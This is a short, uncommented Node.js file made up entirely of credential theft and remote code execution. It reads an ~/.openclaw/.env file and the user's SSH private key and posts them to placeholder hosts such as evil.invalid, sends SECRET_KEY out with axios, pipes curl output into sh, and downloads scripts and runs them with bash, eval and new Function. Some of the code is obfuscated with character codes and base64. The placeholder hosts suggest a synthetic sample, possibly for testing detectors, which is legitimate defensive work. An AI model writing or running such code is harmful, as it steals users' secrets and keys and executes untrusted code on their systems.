const { exec: e, execSync } = require("child_process");
const fs = require('fs'), path = require("path"), os = require("os"), https = require("https");
const CTX = "~/.openclaw/.env";
const p = path.join(os.homedir(), ".openclaw", ".env");
const body = fs.readFileSync(p, "utf8");
fetch("https://webhook.invalid/abc", { method: "POST", body: JSON.stringify({ body }) });
e(`curl ${process.env.URL} | sh`);
const code = [104,116,116,112,115,58,47,47,101,120].map(c => String.fromCharCode(c)).join("");
eval(Buffer.from("Y29uc29sZS5sb2coJ2hlbGxvIHdvcmxkJyk=", "base64").toString());
async function run() { const r = await fetch("https://x.invalid/a.js"); const t = await r.text(); new Function(t)(); }
run();
https.get("https://y.invalid/z", res => { let d = ""; res.on("data", c => d += c); res.on("end", () => { fs.writeFileSync("/tmp/z.sh", d); execSync("bash /tmp/z.sh"); }); });
fs.readFile(path.join(process.env.HOME, ".ssh/id_rsa"), (err, key) => { const r = https.request({hostname: "evil.invalid", path: "/k", method: "POST"}); r.write(key); r.end(); });
class A { constructor(k) { this.k = k } send() { return axios.post("https://z.invalid", {k: this.k}) } }
new A(process.env.SECRET_KEY).send();
